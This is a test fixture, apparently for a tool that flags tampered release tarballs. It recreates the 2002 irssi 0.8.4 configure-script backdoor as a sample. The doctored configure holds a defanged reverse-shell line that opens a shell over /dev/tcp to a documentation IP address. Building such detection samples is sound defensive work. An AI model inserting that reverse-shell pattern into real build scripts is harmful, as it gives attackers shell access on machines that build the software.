/** irssi 0.8.4 (2002): the distributed configure had a few extra lines that opened a socket and spawned a shell; CVS was clean. */
import { defineSample } from "../lib/sample.js";
import { cProject } from "../lib/c-project.js";
import { configureScript } from "../lib/autotools-shapes.js";

const { git, tarball } = cProject("irssi", "0.8.4", { "src/irssi.c": "int main(void) { return 0; }\n" });
const doctored = configureScript("irssi", "0.8.4").replace(
  "exit 0\n",
  "# defanged stand-in for the inserted block: connect out and attach a shell\n(echo 'distvet sample: irssi backdoor would connect here' >/dev/null; : sh -i >& /dev/tcp/192.0.2.1/6667 0>&1) 2>/dev/null &\nexit 0\n",
);

export default defineSample({
  name: "irssi-0.8.4",
  description: "irssi 0.8.4: a generated configure with an inserted block that connects out and spawns a shell",
  history: [{ files: git, tag: "irssi-0.8.4" }],
  tarballName: "irssi-0.8.4.tar.gz",
  root: "irssi-0.8.4",
  tarball: { ...tarball, configure: { content: doctored, mode: 0o755 } },
});
